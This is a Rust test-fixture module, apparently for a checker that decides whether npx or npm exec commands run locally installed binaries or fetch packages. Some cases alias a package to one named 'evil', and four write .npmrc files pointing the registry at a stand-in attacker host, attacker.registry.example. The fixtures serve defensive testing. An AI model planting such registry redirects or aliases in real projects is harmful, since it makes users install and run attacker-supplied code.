//! What runs from the disk although the line names a package.

use super::super::line::{Line, line};

const MODULES: &str = "node_modules";

pub(super) fn lines() -> Vec<Line> {
    let mut lines = installed();
    lines.extend(executables());
    lines.extend(workspaces());
    lines
}

fn srv(id: &str, words: &str) -> Line {
    line(id, words).installed(MODULES, "@s/srv", "1.9.0", "srv")
}

fn installed() -> Vec<Line> {
    vec![
        srv("installed", "npx -y @s/srv"),
        srv("installed-no", "npx --no @s/srv"),
        srv("installed-exact", "npx -y @s/srv@1.9.0"),
        srv("installed-exact-v", "npx -y @s/srv@v1.9.0"),
        srv("installed-range", "npx -y @s/srv@^1.2.0"),
        srv("installed-range-x", "npx -y @s/srv@1.x"),
        srv("installed-range-star", "npx -y @s/srv@*"),
        srv("installed-range-or", "npx -y").word("@s/srv@2.x || ~1.9"),
        srv("installed-range-hyphen", "npx -y").word("@s/srv@1.0.0 - 1.9"),
        srv("installed-range-greater", "npx -y").word("@s/srv@>1.8 <1.9.1"),
        srv("installed-range-outside", "npx -y @s/srv@~1.2.0"),
        srv("installed-other-version", "npx -y @s/srv@1.2.3"),
        srv("installed-latest", "npx -y @s/srv@latest"),
        srv("installed-next", "npx -y @s/srv@next"),
        srv("installed-tag-option", "npx -y --tag next @s/srv"),
        srv("installed-package", "npx -y --package=@s/srv srv"),
        srv("installed-alias", "npx -y @s/srv@npm:evil"),
        srv("installed-exec", "npm exec -y @s/srv"),
        srv("installed-below", "npx -y @s/srv").cwd("{project}/a/b"),
        srv("installed-prefix-elsewhere", "npx -y --prefix {home}/other @s/srv").file("{home}/other/", ""),
        line("installed-prefix", "npx -y --prefix {home}/other @s/srv").installed(
            "{home}/other/node_modules",
            "@s/srv",
            "1.9.0",
            "srv",
        ),
        line("installed-prerelease", "npx -y @s/srv@^2.0.0").installed(MODULES, "@s/srv", "2.1.0-rc.1", "srv"),
        line("installed-prerelease-range", "npx -y @s/srv@^2.1.0-rc.0").installed(
            MODULES,
            "@s/srv",
            "2.1.0-rc.1",
            "srv",
        ),
        line("installed-prerelease-star", "npx -y @s/srv").installed(MODULES, "@s/srv", "2.1.0-rc.1", "srv"),
        line("installed-ancestor", "npx -y @s/srv").installed("{home}/node_modules", "@s/srv", "9.9.9", "srv"),
        line("installed-ancestor-exact", "npx -y @s/srv@9.9.9").installed(
            "{home}/node_modules",
            "@s/srv",
            "9.9.9",
            "srv",
        ),
        line("installed-ancestor-own-manifest", "npx -y @s/srv").file("package.json", "{}").installed(
            "{home}/node_modules",
            "@s/srv",
            "1.9.0",
            "srv",
        ),
        line("installed-ancestor-dependency", "npx -y @s/srv")
            .file("package.json", r#"{"dependencies":{"@s/srv":"*"}}"#)
            .installed("{home}/node_modules", "@s/srv", "1.9.0", "srv"),
        line("installed-plain-name", "npx -y evil").installed(MODULES, "evil", "1.9.0", "evil"),
        line("installed-other-bin", "npx -y other-bin").installed(MODULES, "other-bin", "1.0.0", "different"),
        line("installed-without-link", "npx -y evil").unpacked("node_modules/evil", "evil", "1.0.0", "evil"),
        line("installed-other-folder", "npx -y evil").installed(MODULES, "other", "1.0.0", "other"),
        line("installed-renamed", "npx -y evil")
            .file("node_modules/alias/package.json", r#"{"name":"evil","version":"1.0.0","bin":"cli.sh"}"#)
            .executable("node_modules/alias/cli.sh")
            .file("node_modules/.bin/evil", "-> ../alias/cli.sh"),
        line("installed-nested", "npx -y @s/srv@1.9.0")
            .file("node_modules/a/package.json", r#"{"name":"a","version":"1.0.0"}"#)
            .unpacked("node_modules/a/node_modules/@s/srv", "@s/srv", "1.9.0", "srv"),
        line("installed-globally", "npx -y evil")
            .file("{home}/.npmrc", "prefix={home}/global\n")
            .unpacked("{home}/global/lib/node_modules/evil", "evil", "1.0.0", "evil")
            .file("{home}/global/bin/evil", "-> ../lib/node_modules/evil/cli.sh"),
        line("installed-globally-scoped", "npx -y @s/srv@1.x")
            .file("{home}/.npmrc", "prefix = ${HOME}/global\n")
            .unpacked("{home}/global/lib/node_modules/@s/srv", "@s/srv", "1.9.0", "srv")
            .file("{home}/global/bin/srv", "-> ../lib/node_modules/@s/srv/cli.sh"),
        line("installed-globally-other-version", "npx -y @s/srv@1.2.3")
            .env("PREFIX", "{home}/global")
            .unpacked("{home}/global/lib/node_modules/@s/srv", "@s/srv", "1.9.0", "srv")
            .file("{home}/global/bin/srv", "-> ../lib/node_modules/@s/srv/cli.sh"),
        line("installed-globally-env", "npx -y @s/srv")
            .env("npm_config_prefix", "{home}/global")
            .unpacked("{home}/global/lib/node_modules/@s/srv", "@s/srv", "1.9.0", "srv")
            .file("{home}/global/bin/srv", "-> ../lib/node_modules/@s/srv/cli.sh"),
    ]
}

fn executables() -> Vec<Line> {
    vec![
        line("bin", "npx -y tool").executable("node_modules/.bin/tool"),
        line("bin-no", "npx --no-install tool").executable("node_modules/.bin/tool"),
        line("bin-version", "npx -y tool@1.0.0").executable("node_modules/.bin/tool"),
        line("bin-latest", "npx -y tool@latest").executable("node_modules/.bin/tool"),
        line("bin-package", "npx -y --package=tool tool").executable("node_modules/.bin/tool"),
        line("bin-ancestor", "npx -y tool").executable("{home}/node_modules/.bin/tool"),
        line("bin-ancestor-own-manifest", "npx -y tool")
            .file("package.json", "{}")
            .executable("{home}/node_modules/.bin/tool"),
        line("bin-nearest", "npx -y tool")
            .executable("{home}/node_modules/.bin/tool")
            .executable("node_modules/.bin/tool"),
        line("bin-other-package", "npx -y tool").installed(MODULES, "unrelated", "1.0.0", "tool"),
        line("bin-scoped", "npx -y @s/tool").executable("node_modules/.bin/tool"),
        line("bin-below", "npx -y tool").executable("node_modules/.bin/tool").cwd("{project}/a/b"),
        line("bin-prefix", "npx -y --prefix {home}/other tool").executable("{home}/other/node_modules/.bin/tool"),
        line("bin-prefix-hides", "npx -y --prefix {home}/other tool")
            .file("{home}/other/", "")
            .executable("node_modules/.bin/tool"),
        line("bin-absolute", "npx -y {home}/cli.sh").executable("{home}/cli.sh"),
        line("bin-climbs", "npx -y ../cli.sh").executable("node_modules/cli.sh").executable("{home}/cli.sh"),
        line("bin-exec", "npm exec tool").executable("node_modules/.bin/tool"),
        line("bin-create", "npm create -y tool").executable("node_modules/.bin/create-tool"),
        line("bin-create-star", "npm init -y tool").installed(MODULES, "create-tool", "1.0.0", "create-tool"),
        line("bin-directory", "npx -y tool").file("node_modules/.bin/tool/", ""),
        line("bin-global", "npx -y tool")
            .file("{home}/.npmrc", "prefix=~/global\n")
            .executable("{home}/global/bin/tool"),
        line("bin-global-behind-local", "npx -y tool")
            .file("{home}/.npmrc", "prefix={home}/global\n")
            .executable("{home}/global/bin/tool")
            .executable("node_modules/.bin/tool"),
        line("own-bin", "npx tool").unpacked("{project}", "own", "1.0.0", "tool"),
        line("own-bin-string", "npx own")
            .file("package.json", r#"{"name":"own","version":"1.0.0","bin":"cli.sh"}"#)
            .executable("cli.sh"),
        line("own-bin-scoped", "npx own")
            .file("package.json", r#"{"name":"@s/own","version":"1.0.0","bin":"./cli.sh"}"#)
            .executable("cli.sh"),
        line("own-bin-before-modules", "npx tool")
            .unpacked("{project}", "own", "1.0.0", "tool")
            .executable("node_modules/.bin/tool"),
        line("own-bin-below", "npx tool").unpacked("{project}", "own", "1.0.0", "tool").cwd("{project}/src"),
        line("own-bin-version", "npx -y tool@1.0.0").unpacked("{project}", "own", "1.0.0", "tool"),
        line("own-name", "npx -y own").unpacked("{project}", "own", "1.0.0", "tool"),
    ]
}

fn workspaces() -> Vec<Line> {
    let workspace = |id: &str, words: &str| {
        line(id, words).file("package.json", r#"{"name":"root","workspaces":["packages/*"]}"#).unpacked(
            "packages/member",
            "member",
            "1.0.0",
            "member-cli",
        )
    };
    vec![
        workspace("workspace-root-bin", "npx -y tool")
            .executable("node_modules/.bin/tool")
            .cwd("{project}/packages/member"),
        workspace("workspace-own-bin", "npx member-cli").cwd("{project}/packages/member"),
        workspace("workspace-member-bin", "npx -y tool")
            .executable("packages/member/node_modules/.bin/tool")
            .cwd("{project}/packages/member"),
        workspace("workspace-named", "npx -w member member-cli"),
        workspace("workspace-by-path", "npx -w packages/member member-cli"),
        workspace("workspace-not-named", "npx -y member-cli"),
        workspace("workspace-linked", "npx -y member")
            .file("node_modules/member", "-> ../packages/member")
            .file("node_modules/.bin/member-cli", "-> ../member/cli.sh"),
        workspace("workspace-registry", "npx -y evil")
            .file(".npmrc", "registry=https://attacker.registry.example/\n")
            .cwd("{project}/packages/member"),
        workspace("workspace-own-registry-ignored", "npx -y evil")
            .file("packages/member/.npmrc", "registry=https://attacker.registry.example/\n")
            .cwd("{project}/packages/member"),
        workspace("workspace-switched-off", "npx --no-workspaces -y evil")
            .file("packages/member/.npmrc", "registry=https://attacker.registry.example/\n")
            .cwd("{project}/packages/member"),
        workspace("not-a-workspace", "npx -y evil")
            .file("tools/package.json", "{}")
            .file("tools/.npmrc", "registry=https://attacker.registry.example/\n")
            .cwd("{project}/tools"),
    ]
}
